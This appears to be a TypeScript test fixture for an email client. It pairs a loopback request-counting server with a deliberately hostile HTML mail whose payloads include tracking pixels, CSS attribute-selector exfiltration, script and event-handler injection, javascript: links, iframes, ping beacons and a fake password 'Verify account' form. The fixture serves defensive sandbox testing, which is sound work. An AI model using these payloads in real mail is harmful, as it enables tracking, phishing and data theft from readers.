/**
 * A hostile HTML mail and the loopback server it tries to reach: every request the mail makes
 * (scripts, images, CSS url(), fonts, imports, frames, form posts, beacons) is counted by path.
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';

export interface HitCounter {
  base: string;
  hits: string[];
  count(prefix?: string): number;
  close(): Promise<void>;
}

const PIXEL = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64');

export async function startHitCounter(): Promise<HitCounter> {
  const hits: string[] = [];
  const server = http.createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    const url = req.url ?? '/';
    if (url.endsWith('.png')) {
      res.writeHead(200, { 'content-type': 'image/png', 'cache-control': 'no-store' });
      res.end(PIXEL);
    } else if (url.endsWith('.css')) {
      res.writeHead(200, { 'content-type': 'text/css' });
      res.end(`body{background:url(/from-import.png)}`);
    } else if (url.endsWith('.js')) {
      res.writeHead(200, { 'content-type': 'text/javascript' });
      res.end(`fetch('/from-script')`);
    } else {
      res.writeHead(200, { 'content-type': 'text/html' });
      res.end('<p>counted</p>');
    }
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return {
    base,
    hits,
    count: (prefix) => hits.filter((h) => !prefix || h.split(' ')[1]!.startsWith(prefix)).length,
    close: () =>
      new Promise<void>((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}

/** Image paths: allowed to load once the reader clicks "Show remote images"; nothing else ever is. */
export const IMAGE_PATHS = ['/img-tracker.png', '/css-attr.png', '/css-style.png', '/table-bg.png'];

/** HTML that tries everything a mail should never be able to do. */
export function hostileHtml(base: string): string {
  return `<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url=${base}/meta-refresh">
<base href="${base}/base/">
<link rel="stylesheet" href="${base}/link.css">
<link rel="prefetch" href="${base}/prefetch">
<style>
  @import url("${base}/import.css");
  @font-face { font-family: leak; src: url(${base}/font.woff2); }
  body { font-family: leak; }
  .bg { background-image: url('${base}/css-style.png'); }
  p[data-secret^="a"] { background: url(${base}/css-exfil-a.png); }
</style>
<script>window.parent.__pwned = 'script'; fetch('${base}/script-fetch');</script>
<script src="${base}/external.js"></script>
</head><body>
<h1 id="hostile-title">Quarterly report</h1>
<p class="bg" data-secret="abc">Please review the numbers below.</p>
<img src="${base}/img-tracker.png" alt="tracker">
<img src="x" onerror="window.parent.__pwned='onerror';new Image().src='${base}/onerror'">
<img srcset="${base}/srcset.png 1x">
<div style="background:url(${base}/css-attr.png)">styled attribute</div>
<table background="${base}/table-bg.png"><tr><td>cell</td></tr></table>
<svg onload="window.parent.__pwned='svg'"><image href="${base}/svg-image.png"/></svg>
<iframe src="${base}/frame"></iframe>
<object data="${base}/object"></object>
<embed src="${base}/embed">
<video poster="${base}/poster.png"><source src="${base}/video.mp4"></video>
<form action="${base}/form-post" method="post"><input name="password" autofocus onfocus="window.parent.__pwned='focus'"><button type="submit">Verify account</button></form>
<a href="javascript:window.parent.__pwned='js-link'" id="js-link">click me</a>
<a href="https://example.org/docs" id="safe-link">the docs</a>
<a href="${base}/ping-link" ping="${base}/ping">tracked link</a>
<p onclick="window.parent.__pwned='click'">end of mail</p>
</body></html>`;
}
